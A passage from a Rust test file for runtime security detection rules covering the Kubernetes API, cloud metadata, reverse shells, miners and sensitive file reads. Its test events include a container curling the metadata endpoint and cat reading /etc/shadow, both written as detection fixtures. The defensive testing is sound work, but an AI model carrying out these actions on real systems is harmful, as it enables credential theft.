        ),
        // ---- Kubernetes API ----
        yes(
            K8S_API,
            "the kubernetes service IP on 443",
            connect(ctr(), "curl", "/usr/bin/curl", "10.96.0.1", 443),
            &[K8S_API],
        ),
        yes(
            K8S_API,
            "an API server on 6443",
            connect(ctr(), "kubectl", "/usr/bin/kubectl", "192.168.1.10", 6443),
            &[K8S_API],
        ),
        no(
            K8S_API,
            "cluster DNS",
            connect(ctr(), "nginx", "/usr/sbin/nginx", "10.96.0.10", 53),
            &[],
        ),
        no(
            K8S_API,
            "a kube-system controller",
            connect(
                ctr().with("k8s.ns.name", "kube-system"),
                "coredns",
                "/coredns",
                "10.96.0.1",
                443,
            ),
            &[],
        ),
        no(
            K8S_API,
            "kubelet on the host",
            connect(host(), "kubelet", "/usr/bin/kubelet", "192.168.1.10", 6443),
            &[],
        ),
        // ---- cloud metadata ----
        yes(
            METADATA,
            "IMDS from a container",
            connect(ctr(), "curl", "/usr/bin/curl", "169.254.169.254", 80),
            &[METADATA],
        ),
        yes(
            METADATA,
            "AWS IPv6 IMDS from a container",
            connect(ctr(), "curl", "/usr/bin/curl", "fd00:ec2::254", 80),
            &[METADATA],
        ),
        no(
            METADATA,
            "cloud-init on the host",
            connect(
                host(),
                "cloud-init",
                "/usr/bin/python3",
                "169.254.169.254",
                80,
            ),
            &[],
        ),
        no(
            METADATA,
            "the VPC DNS resolver (a link-local neighbour)",
            connect(ctr(), "nginx", "/usr/sbin/nginx", "169.254.169.253", 53),
            &[],
        ),
    ]
}

fn fired(set: &RuleSet, event: &MapEvent) -> BTreeSet<String> {
    let mut hits = Vec::new();
    set.matching(event, &mut hits);
    hits.iter().map(|m| m.rule.name().to_owned()).collect()
}

#[test]
fn the_file_loads_without_any_problem() {
    let (set, report) = default_rules();
    assert!(report.problems().is_empty(), "{report}");
    assert_eq!(report.rules_loaded(), report.rules_total());
    assert_eq!(report.rules_disabled(), 0);
    assert_eq!(set.len(), 24, "{}", report.summary());
    assert!(set.rules().iter().all(Rule::is_enabled));
}

#[test]
fn each_behaviour_fires_exactly_the_expected_rules() {
    let set = rules();
    let mut failures = Vec::new();
    for case in cases() {
        assert!(
            set.get(case.rule).is_some(),
            "no rule named '{}' (case: {})",
            case.rule,
            case.what
        );
        assert!(
            case.event.unknown_keys().is_empty(),
            "{}: unknown keys {:?}",
            case.what,
            case.event.unknown_keys()
        );
        assert_eq!(
            case.positive,
            case.fires.contains(&case.rule),
            "case '{}' is mislabelled",
            case.what
        );
        let got = fired(&set, &case.event);
        let want: BTreeSet<String> = case.fires.iter().map(|s| (*s).to_owned()).collect();
        if got != want {
            failures.push(format!(
                "{} ({}): fired {got:?}, expected {want:?}",
                case.what,
                if case.positive { "+" } else { "-" }
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn every_rule_has_a_positive_and_a_negative_case() {
    let set = rules();
    let cases = cases();
    for rule in set.rules() {
        for positive in [true, false] {
            assert!(
                cases
                    .iter()
                    .any(|c| c.rule == rule.name() && c.positive == positive),
                "rule '{}' has no {} case",
                rule.name(),
                if positive { "positive" } else { "negative" }
            );
        }
    }
}

/// `T1234` or `T1234.567`.
fn is_mitre_technique(tag: &str) -> bool {
    let Some(id) = tag.strip_prefix('T') else {
        return false;
    };
    let (main, sub) = match id.split_once('.') {
        Some((m, s)) => (m, Some(s)),
        None => (id, None),
    };
    let digits = |s: &str, n: usize| s.len() == n && s.bytes().all(|b| b.is_ascii_digit());
    digits(main, 4) && sub.is_none_or(|s| digits(s, 3))
}

#[test]
fn mitre_technique_pattern() {
    for ok in ["T1059", "T1059.004", "T1611"] {
        assert!(is_mitre_technique(ok), "{ok}");
    }
    for bad in ["TA0003", "T105", "T1059.4", "T1059.0041", "t1059", "T1059."] {
        assert!(!is_mitre_technique(bad), "{bad}");
    }
}

#[test]
fn every_rule_is_tagged_with_mitre_techniques_and_scope() {
    for rule in rules().rules() {
        let tags = rule.tags();
        assert!(
            tags.iter().any(|t| is_mitre_technique(t)),
            "rule '{}' has no MITRE technique tag: {tags:?}",
            rule.name()
        );
        assert!(
            rule.has_tag("container") || rule.has_tag("host"),
            "rule '{}' says neither container nor host: {tags:?}",
            rule.name()
        );
        assert!(!rule.desc().trim().is_empty(), "rule '{}'", rule.name());
        for t in tags {
            assert!(
                !t.starts_with("habitd.") || t == NEVER_LEARN_TAG || t == ALWAYS_TAG,
                "rule '{}': unknown habitd tag '{t}'",
                rule.name()
            );
        }
    }
}

#[test]
fn fusion_tags_are_where_they_belong() {
    let set = rules();
    let tagged = |tag: &str| -> BTreeSet<&str> {
        set.rules()
            .iter()
            .filter(|r| r.has_tag(tag))
            .map(Rule::name)
            .collect()
    };
    assert_eq!(
        tagged(NEVER_LEARN_TAG),
        BTreeSet::from([
            MODULE,
            PTRACE,
            MEMFD_EXEC,
            RELEASE_AGENT,
            K8S_API,
            METADATA,
            MINER_PORT,
            MINER,
            REVERSE_SHELL,
        ])
    );
    assert_eq!(tagged(ALWAYS_TAG), BTreeSet::from([MODULE, RELEASE_AGENT]));
    // What is never suppressed must not be learnable either.
    assert!(tagged(ALWAYS_TAG).is_subset(&tagged(NEVER_LEARN_TAG)));
}

#[test]
fn priorities_are_graded() {
    use crate::priority::Priority;
    let set = rules();
    let priority = |name: &str| set.get(name).unwrap().priority();
    for name in [MODULE, RELEASE_AGENT, MEMFD_EXEC, MINER] {
        assert_eq!(priority(name), Priority::Critical, "{name}");
    }
    for name in [SHELL, INTERPRETER, MEMFD_CREATE, PACKET, K8S_API] {
        assert_eq!(priority(name), Priority::Notice, "{name}");
    }
    for name in [SENSITIVE_READ, TEMP_EXEC, PTRACE, SETUID, NAMESPACE] {
        assert_eq!(priority(name), Priority::Warning, "{name}");
    }
}

#[test]
fn outputs_name_the_process_and_the_workload() {
    for rule in rules().rules() {
        let names: Vec<&str> = rule.output().fields().map(|(n, _)| n).collect();
        for needed in [
            "evt.type",
            "proc.name",
            "proc.cmdline",
            "proc.pid",
            "user.uid",
            "container.id",
            "container.image.repository",
            "container.image.tag",
            "k8s.ns.name",
            "k8s.pod.name",
        ] {
            assert!(
                names.contains(&needed),
                "rule '{}' does not print {needed}",
                rule.name()
            );
        }
    }
    // A rendered output, for the record.
    let set = rules();
    let mut hits = Vec::new();
    set.matching(
        &open(ctr(), "cat", "/bin/cat", "/etc/shadow", "r"),
        &mut hits,
    );
    assert_eq!(hits.len(), 1);
    assert!(
        hits[0].output.starts_with(
            "Sensitive file opened for reading | file=/etc/shadow process=cat command=cat"
        ),
        "{}",
        hits[0].output
    );
    assert!(
        hits[0]
            .output
            .contains("image=docker.io/library/nginx:1.25 k8s_ns=shop"),
        "{}",
        hits[0].output
    );
}

#[test]
fn operators_can_extend_the_defaults() {
    let mut loader = RuleLoader::new();
    add_default_rules(&mut loader);
    loader.add_str(
        "local.yaml",
        r#"
- list: k8s_api_server_ips
  items: ["172.20.0.1"]
  override:
    items: append
- list: user_known_shell_spawn_images
  items: [docker.io/library/nginx]
  override:
    items: append
"#,
    );
    let (set, report) = loader.finish();
    assert!(report.problems().is_empty(), "{report}");
    let api = connect(ctr(), "curl", "/usr/bin/curl", "172.20.0.1", 443);
    assert_eq!(fired(&set, &api), BTreeSet::from([K8S_API.to_owned()]));
    let shell = exec(ctr(), "sh", "/bin/dash", &["sh", "-c", "id"], "nginx");
    assert!(fired(&set, &shell).is_empty());
    // The defaults alone still fire on the shell.
    assert_eq!(fired(&rules(), &shell), BTreeSet::from([SHELL.to_owned()]));
}
